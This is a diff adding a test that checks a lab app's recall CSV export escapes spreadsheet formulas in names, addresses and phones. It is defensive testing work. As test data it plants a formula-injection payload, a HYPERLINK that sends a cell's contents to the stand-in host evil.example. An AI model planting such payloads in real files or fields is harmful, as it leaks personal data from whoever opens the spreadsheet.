@@ -481,3 +481,41 @@ def test_concurrent_entries_for_one_tube_wait_for_each_other_on_postgresql(
         )
     ]
     assert results_of(world.engine, "KG-RG-000071") == [("negative", None, None)]
+
+
+def test_recall_csv_keeps_text_from_people_as_text(world: World) -> None:
+    """A name, address or phone that starts like a formula opens as text in a spreadsheet."""
+    import csv
+    import io
+
+    from server.models import Declaration, Person
+
+    evil = '=HYPERLINK("http://evil.example/?"&A2,"Bình")'
+    world.sample("st-1", "KG-RG-000081", [("079303008888", evil, "15082003"), PEOPLE[1]])
+    received(world, "KG-RG-000081")
+    with Session(world.engine) as s, s.begin():
+        person = s.scalars(select(Person).where(Person.key == "079303008888")).one()
+        person.address = "@SUM(A1:A9)"
+        s.add(
+            Declaration(
+                qid="SW00000001",
+                lookup_code_hash="0" * 64,
+                person_id=person.id,
+                name=evil,
+                birth_date="2003-08-15",
+                phone="+84912345678",
+                created_at=datetime.now(UTC),
+            )
+        )
+        enter_result(s, world.lab_staff, CTX, tube_code="KG-RG-000081", value="positive")
+    with Session(world.engine) as s:
+        pool = recall_list(s, world.lab_staff.scope(Permission.DATA_READ), "KG-RG-000081")
+        data = recall_csv([pool], "en")
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    header, first, second = rows[0], rows[1], rows[2]
+    cell = dict(zip(header, first, strict=True))
+    assert cell["Full name"] == "'" + evil
+    assert cell["Phone"] == "'+84912345678"
+    assert cell["Address"] == "'@SUM(A1:A9)"
+    assert cell["ID / QR id"] == "079303008888"  # nothing else changes
+    assert dict(zip(header, second, strict=True))["Full name"] == "Trần Văn An"
